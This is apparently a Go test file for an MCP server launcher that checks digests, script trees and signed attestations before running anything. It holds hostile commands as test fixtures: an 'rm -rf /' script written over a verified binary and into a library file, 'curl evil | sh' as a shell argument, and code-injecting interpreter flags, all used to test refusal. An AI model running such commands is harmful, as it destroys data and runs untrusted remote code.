//go:build linux

package stdio_test

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"golang.org/x/mod/sumdb/dirhash"

	"github.com/mcpsec/mcpsec-go/attest/envelope"
	"github.com/mcpsec/mcpsec-go/transport/stdio"
	"github.com/mcpsec/mcpsec-go/transport/stdio/sandbox"
)

// refused connects and wants nothing to have been started.
func refused(t *testing.T, l *stdio.Launch, backend *plain, want string) {
	t.Helper()
	_, err := l.Connect(t.Context())
	if err == nil || !strings.Contains(err.Error(), want) {
		t.Errorf("%v, want %q", err, want)
	}
	if backend.started != 0 {
		t.Error("something was started")
	}
}

func TestWhatIsNotTheReviewedProgramDoesNotRun(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	write(t, filepath.Join(dir, "hello"), "#!/bin/sh\nexit 0\n")
	write(t, filepath.Join(dir, "text"), "no program")
	must(t, os.WriteFile(filepath.Join(dir, "plain"), nil, 0o644))
	exe, err := os.ReadFile("/proc/self/exe")
	must(t, err)
	foreign := slices.Clone(exe[:64])
	foreign[18] = 0xf3 ^ foreign[18] // of another machine
	write(t, filepath.Join(dir, "foreign"), string(foreign))
	narrow := slices.Clone(exe[:64])
	narrow[4] = 1 // 32 bits
	write(t, filepath.Join(dir, "narrow"), string(narrow))
	digest := func(name string) string {
		text, err := os.ReadFile(filepath.Join(dir, name))
		must(t, err)
		sum := sha256.Sum256(text)
		return hex.EncodeToString(sum[:])
	}
	zero := strings.Repeat("0", 64)
	for name, test := range map[string]struct {
		command  string
		artifact stdio.Artifact
		want     string
	}{
		"another digest":        {"/proc/self/exe", stdio.Program{SHA256: zero}, "expected " + zero + ", found " + self()},
		"upper case":            {"/proc/self/exe", stdio.Program{SHA256: strings.ToUpper(self())}, "64 lower-case"},
		"half a digest":         {"/proc/self/exe", stdio.Program{SHA256: self()[:32]}, "64 lower-case"},
		"nothing to compare":    {"/proc/self/exe", stdio.Program{}, "either a digest or Signed"},
		"both":                  {filepath.Join(dir, "text"), stdio.Program{SHA256: digest("text"), Signed: nobody}, "either a digest or Signed"},
		"nobody vouches":        {"/proc/self/exe", stdio.Program{Signed: nobody}, "nobody trusted vouches"},
		"a script":              {filepath.Join(dir, "hello"), stdio.Program{SHA256: digest("hello")}, "stdio.Tree with an Interpreter"},
		"no ELF":                {filepath.Join(dir, "text"), stdio.Program{SHA256: digest("text")}, "not an ELF program"},
		"not executable":        {filepath.Join(dir, "plain"), stdio.Program{SHA256: digest("plain")}, "not executable"},
		"of another machine":    {filepath.Join(dir, "foreign"), stdio.Program{SHA256: digest("foreign")}, "ELF"},
		"of 32 bits":            {filepath.Join(dir, "narrow"), stdio.Program{SHA256: digest("narrow")}, "ELF"},
		"missing":               {filepath.Join(dir, "none"), stdio.Program{SHA256: zero}, "no such file"},
		"a folder":              {dir, stdio.Program{SHA256: zero}, "not a regular file"},
		"a device":              {"/dev/zero", stdio.Program{SHA256: zero}, "not a regular file"},
		"not in the fixed PATH": {"surely-not-installed", stdio.Program{SHA256: zero}, "is in none of"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			l, backend, _ := launch(t, "serve")
			l.Command, l.Artifact = []string{test.command}, test.artifact
			refused(t, l, backend, test.want)
		})
	}
}

var nobody = stdio.VerifierFunc(func(context.Context, string, string) error { return errors.New("unknown") })

func TestADigestIsReadOnce(t *testing.T) {
	t.Parallel()
	exe, err := os.ReadFile("/proc/self/exe")
	must(t, err)
	path := filepath.Join(t.TempDir(), "server")
	text := string(exe) + "its own digest"
	write(t, path, text)
	sum := sha256.Sum256([]byte(text))
	for range 2 {
		l, _, _ := launch(t, "serve")
		l.Command, l.Artifact = []string{path}, stdio.Program{SHA256: hex.EncodeToString(sum[:])}
		s := session(t, l)
		call(t, s, "whoami", nil)
		must(t, os.WriteFile(path, []byte("#!/bin/sh\nrm -rf /\n"), 0o755)) // in place, and no longer read
	}
}

func TestAPrivateCopyRunsUnderAPath(t *testing.T) {
	t.Parallel()
	l, backend, _ := launch(t, "serve")
	l.Artifact = stdio.Program{SHA256: self(), PrivateCopy: true}
	s := session(t, l)
	call(t, s, "whoami", nil)
	c := backend.last
	if c.Program != nil || c.Path != stdio.AppDir+"/"+filepath.Base(l.Command[0]) || len(c.Mounts) != 1 || !c.Mounts[0].Exec || c.Mounts[0].Target != stdio.AppDir {
		t.Errorf("%+v", c)
	}
	if info, err := os.Stat(filepath.Dir(c.Mounts[0].Source)); err != nil || info.Mode().Perm() != 0o700 {
		t.Errorf("others can enter the copy: %v, %v", info, err)
	}
	copied := filepath.Dir(c.Mounts[0].Source)
	must(t, s.Close())
	if _, err := os.Stat(copied); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("the copy is left: %v", err)
	}
}

// tree is a folder with a script in it, and its sum.
func tree(tb testing.TB) (dir, sum string) {
	tb.Helper()
	dir = tb.TempDir()
	write(tb, filepath.Join(dir, "server.sh"), "exec sleep 60\n")
	write(tb, filepath.Join(dir, "lib", "part.sh"), "true\n")
	must(tb, os.MkdirAll(filepath.Join(dir, "bin"), 0o755))
	must(tb, os.Symlink("../lib/part.sh", filepath.Join(dir, "bin", "part")))
	sum, err := stdio.SumTree(tb.Context(), dir)
	must(tb, err)
	return dir, sum
}

func TestSumTreeIsThatOfGoModules(t *testing.T) {
	t.Parallel()
	dir, sum := tree(t)
	want, err := dirhash.HashDir(dir, "", dirhash.Hash1)
	must(t, err)
	if sum != want {
		t.Errorf("%s, dirhash says %s", sum, want)
	}
}

func TestATreeThatIsNotTheReviewedOneDoesNotRun(t *testing.T) {
	t.Parallel()
	outside := filepath.Join(t.TempDir(), "secret")
	write(t, outside, "secret")
	for name, test := range map[string]struct {
		spoil func(t *testing.T, dir string, l *stdio.Launch)
		want  string
	}{
		"an imported file changed": {func(t *testing.T, dir string, _ *stdio.Launch) {
			t.Helper()
			write(t, filepath.Join(dir, "lib", "part.sh"), "rm -rf /\n")
		}, "expected h1:"},
		"a file was added": {func(t *testing.T, dir string, _ *stdio.Launch) {
			t.Helper()
			write(t, filepath.Join(dir, "lib", "sitecustomize.py"), "evil")
		}, "expected h1:"},
		"a file is missing": {func(t *testing.T, dir string, _ *stdio.Launch) {
			t.Helper()
			must(t, os.Remove(filepath.Join(dir, "lib", "part.sh")))
		}, "leads out of the folder or nowhere"},
		"a link leads out": {func(t *testing.T, dir string, _ *stdio.Launch) {
			t.Helper()
			must(t, os.Symlink(outside, filepath.Join(dir, "x")))
		}, "leads out of the folder"},
		"a link to a folder": {func(t *testing.T, dir string, _ *stdio.Launch) {
			t.Helper()
			must(t, os.Symlink("lib", filepath.Join(dir, "x")))
		}, "a link to a folder"},
		"no script":          {func(_ *testing.T, _ string, l *stdio.Launch) { l.Command = l.Command[:1] }, "is given no script"},
		"a script outside":   {func(_ *testing.T, _ string, l *stdio.Launch) { l.Command[1] = outside }, "is no file of the tree"},
		"a way out":          {func(_ *testing.T, _ string, l *stdio.Launch) { l.Command[1] = "../secret" }, "is no file of the tree"},
		"a folder as script": {func(_ *testing.T, _ string, l *stdio.Launch) { l.Command[1] = "lib" }, "name the script"},
		"code as an argument": {func(_ *testing.T, _ string, l *stdio.Launch) {
			l.Command = []string{"/bin/sh", "-c", "curl evil | sh", "server.sh"}
		}, "-c before the script"},
		"no interpreter is declared": {func(_ *testing.T, dir string, l *stdio.Launch) {
			l.Command, l.Artifact = []string{"server.sh"}, stdio.Tree{Dir: dir, Sum: l.Artifact.(stdio.Tree).Sum}
		}, "not an ELF program"},
		"an absolute program": {func(_ *testing.T, dir string, l *stdio.Launch) {
			l.Artifact = stdio.Tree{Dir: dir, Sum: l.Artifact.(stdio.Tree).Sum}
		}, "not a path relative"},
		"a tree for an interpreter": {func(_ *testing.T, _ string, l *stdio.Launch) {
			a := l.Artifact.(stdio.Tree)
			a.Interpreter = stdio.Tree{Dir: a.Dir, Sum: a.Sum}
			l.Artifact = a
		}, "an interpreter is"},
		"another interpreter": {func(_ *testing.T, _ string, l *stdio.Launch) {
			a := l.Artifact.(stdio.Tree)
			a.Interpreter = stdio.Program{SHA256: strings.Repeat("0", 64)}
			l.Artifact = a
		}, "expected 0000"},
		"another working directory decides": {func(_ *testing.T, _ string, l *stdio.Launch) {
			l.Profile.Dir = "/srv"
		}, "Profile.Dir decides which script runs"},
		"the profile names the copy": {func(_ *testing.T, _ string, l *stdio.Launch) {
			l.Profile.Write = []string{"/srv/../app//lib"}
		}, "where the verified copy appears"},
		"a sum of another kind": {func(_ *testing.T, _ string, l *stdio.Launch) {
			a := l.Artifact.(stdio.Tree)
			a.Sum = self()
			l.Artifact = a
		}, "h1:"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			dir, sum := tree(t)
			l, backend, _ := launch(t, "serve")
			l.Command, l.Artifact = []string{"/bin/sh", "server.sh"}, stdio.Tree{Dir: dir, Sum: sum, Interpreter: stdio.System{}}
			test.spoil(t, dir, l)
			refused(t, l, backend, test.want)
		})
	}
}

// The tree runs from the copy, whatever becomes of the folder.
func TestATreeRunsFromItsCopy(t *testing.T) {
	t.Parallel()
	exe, err := os.ReadFile("/proc/self/exe")
	must(t, err)
	dir := t.TempDir()
	write(t, filepath.Join(dir, "bin", "server"), string(exe))
	write(t, filepath.Join(dir, "data"), "data")
	sum, err := stdio.SumTree(t.Context(), dir)
	must(t, err)
	l, backend, _ := launch(t, "serve")
	l.Command, l.Artifact = []string{"bin/server"}, stdio.Tree{Dir: dir, Sum: sum}
	s := session(t, l)
	if where := call(t, s, "where", nil); where != backend.last.Mounts[0].Source+"<nil>" {
		t.Errorf("it runs in %s", where)
	}
	if l.Report().Artifact == "" {
		t.Error("no digest in the report")
	}
	must(t, s.Close())
}

func TestSystemProgramsAreRootsAlone(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	write(t, filepath.Join(dir, "tool"), "\x7fELF")
	must(t, os.Symlink("/bin/ls", filepath.Join(dir, "link")))
	for path, want := range map[string]string{
		filepath.Join(dir, "tool"): "others than root may write to /tmp",
		filepath.Join(dir, "link"): "others than root may write to /tmp",
		"/etc/passwd":              "is no program",
		"/usr/bin":                 "is no program",
		"/usr/bin/surely-missing":  "no such file",
	} {
		if !strings.HasPrefix(dir, "/tmp/") && strings.Contains(want, "/tmp") {
			continue
		}
		l, backend, _ := launch(t, "serve")
		l.Command, l.Artifact = []string{path}, stdio.System{}
		refused(t, l, backend, want)
	}
}

// What is fetched or chosen after the start cannot have been verified.
func TestCommandsThatRunSomethingElse(t *testing.T) {
	t.Parallel()
	for _, words := range []string{
		"npx -y @modelcontextprotocol/server-filesystem", "/usr/bin/npx x", "uvx x", "uv run x", "bunx x", "pipx run x", "npm exec x",
		"docker run x", "sh -c id", "bash x.sh", "dash", "env npx x", "/usr/bin/env node x", "python3 x.py", "python3.11 -m x",
		"node x.js", "nodejs x", "perl x", "ruby3.2 x", "busybox sh", "timeout 5 x", "xargs x", "sudo x", "java -jar x", "/lib64/ld-linux-x86-64.so.2 /tmp/x",
	} {
		for _, artifact := range []stdio.Artifact{stdio.System{}, stdio.Program{SHA256: strings.Repeat("0", 64)}} {
			l, backend, _ := launch(t, "serve")
			l.Command, l.Artifact = strings.Fields(words), artifact
			_, err := l.Connect(t.Context())
			if !errors.Is(err, stdio.ErrArtifact) || backend.started != 0 || strings.Contains(err.Error(), "expected 0000") {
				t.Errorf("%s: %v", words, err)
			}
		}
	}
	dir := t.TempDir() // under a harmless name
	must(t, os.Symlink("/bin/sh", filepath.Join(dir, "server")))
	l, backend, _ := launch(t, "serve")
	l.Command, l.Artifact = []string{filepath.Join(dir, "server")}, stdio.System{}
	refused(t, l, backend, "runs a script that is not verified")
}

func TestInterpretersRunTheTreeOnly(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	write(t, filepath.Join(dir, "index.js"), "")
	write(t, filepath.Join(dir, "pkg", "__main__.py"), "")
	write(t, filepath.Join(dir, "mod.py"), "")
	write(t, filepath.Join(dir, "json", "tool.py"), "")
	write(t, filepath.Join(dir, "whole", "__init__.py"), "")
	write(t, filepath.Join(dir, "whole", "part.py"), "")
	sum, err := stdio.SumTree(t.Context(), dir)
	must(t, err)
	for words, ok := range map[string]bool{
		"node index.js": true, "node ./index.js --flag": true, "node --max-old-space-size=64 index.js": true, "node " + stdio.AppDir + "/index.js": true,
		"node -r /tmp/x.js index.js": false, "node --require=/tmp/x.js index.js": false, "node --import data:x index.js": false, "node -e 1 index.js": false,
		"node --max-old-space-size index.js": false, "node --experimental-loader=x index.js": false, "node --inspect=0.0.0.0 index.js": false, "node - index.js": false,
		"python3 mod.py": true, "python3 -u -I mod.py": true, "python3 -m mod": true, "python3 -m pkg": true,
		"python3 -m pip install x": false, "python3 -c 1 mod.py": false, "python3 -X importtime mod.py": false, "python3 -m": false, "python3 -m ..mod": false,
		// Without the working directory on its path, python takes the module of the distribution.
		"python3 -P -m mod": false, "python3 -I -u -m mod": false, "python3 -B -m mod": true,
		// A folder without __init__.py loses against any package of that name.
		"python3 -m json.tool": false, "python3 -m whole.part": true,
		"sh mod.py": true, "sh -x mod.py": false, "npx index.js": false, "env index.js": false,
	} {
		name, rest, _ := strings.Cut(words, " ")
		l, backend, _ := launch(t, "serve")
		l.Command = append([]string{name}, strings.Fields(rest)...)
		l.Artifact = stdio.Tree{Dir: dir, Sum: sum, Interpreter: stdio.Program{Signed: witness{}}}
		_, err := l.Connect(t.Context())
		reached := errors.Is(err, errWitness) || err != nil && strings.Contains(err.Error(), "is in none of") // it asked about the interpreter
		if reached != ok || backend.started != 0 {
			t.Errorf("%s: %v", words, err)
		}
	}
}

var errWitness = errors.New("asked")

// A witness tells that it was asked.
type witness struct{}

func (witness) Verify(context.Context, string, string) error { return errWitness }

func TestSignedPrograms(t *testing.T) {
	t.Parallel()
	private, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	must(t, err)
	signer, err := envelope.SignWith(private)
	must(t, err)
	key, err := envelope.NewKey(private.Public())
	must(t, err)
	stranger, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	must(t, err)
	strangers, err := envelope.NewKey(stranger.Public())
	must(t, err)
	const provenance = "https://slsa.dev/provenance/v1"
	statement := func(kind, digest string) []byte {
		text, err := json.Marshal(map[string]any{
			"_type": "https://in-toto.io/Statement/v1", "predicateType": kind, "predicate": map[string]any{"any": "thing"},
			"subject": []any{map[string]any{"name": "other", "digest": map[string]string{"sha1": digest[:40]}}, map[string]any{"name": "server", "digest": map[string]string{"sha256": digest}}},
		})
		must(t, err)
		return text
	}
	zero := strings.Repeat("0", 64)
	for name, test := range map[string]struct {
		statement []byte
		predicate string
		trusted   envelope.Verifier
		want      string
	}{
		"vouched for":         {statement(provenance, self()), provenance, envelope.Keys(key), ""},
		"by a stranger":       {statement(provenance, self()), provenance, envelope.Keys(strangers), "untrusted"},
		"about another file":  {statement(provenance, zero), provenance, envelope.Keys(key), "about something else"},
		"of another kind":     {statement("https://in-toto.io/attestation/vulns/v0.1", self()), provenance, envelope.Keys(key), "the predicate is no"},
		"no statement":        {[]byte(`{"_type":"x"}`), provenance, envelope.Keys(key), "the statement is no"},
		"two subjects lists":  {[]byte(`{"_type":"https://in-toto.io/Statement/v1","subject":[],"subject":[]}`), provenance, envelope.Keys(key), "duplicate"},
		"nothing is trusted":  {statement(provenance, self()), provenance, nil, "needs a predicate type and a verifier"},
		"no kind is expected": {statement("", self()), "", envelope.Keys(key), "needs a predicate type and a verifier"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			bundle, err := signer.Sign(t.Context(), "application/vnd.in-toto+json", test.statement)
			must(t, err)
			path := filepath.Join(t.TempDir(), "bundle.json")
			write(t, path, string(bundle))
			l, backend, _ := launch(t, "serve")
			l.Artifact = stdio.Program{Signed: stdio.Bundle(path, test.predicate, test.trusted)}
			if test.want != "" {
				refused(t, l, backend, "nobody trusted vouches")
				return
			}
			session(t, l)
			if l.Report().Artifact != "sha256:"+self() {
				t.Error(l.Report().Artifact)
			}
		})
	}
}

// Without verification only if the caller says so, and the report does too.
func TestUnverifiedOnlyIfAllowed(t *testing.T) {
	t.Parallel()
	l, backend, told := launch(t, "serve")
	l.Artifact, l.Allow = nil, []sandbox.Control{sandbox.Artifact}
	session(t, l)
	if d := told.of(stdio.Degraded); len(d) != 1 || d[0].Control != sandbox.Artifact {
		t.Errorf("events %v", told.list)
	}
	if l.Report().Artifact != "" || !slices.Contains(backend.last.Profile.Exec, l.Command[0]) {
		t.Errorf("%+v %+v", l.Report(), backend.last.Profile)
	}
}

func ExampleSumTree() {
	dir, err := os.MkdirTemp("", "example")
	if err != nil {
		fmt.Println(err)
		return
	}
	defer os.RemoveAll(dir)
	if err := os.WriteFile(filepath.Join(dir, "server.py"), []byte("print()\n"), 0o600); err != nil {
		fmt.Println(err)
		return
	}
	fmt.Println(stdio.SumTree(context.Background(), dir))
	// Output: h1:he5zIH3aUK1Pa6BKO5U6h7kdcX/itDPWFG7CNI21wzc= <nil>
}
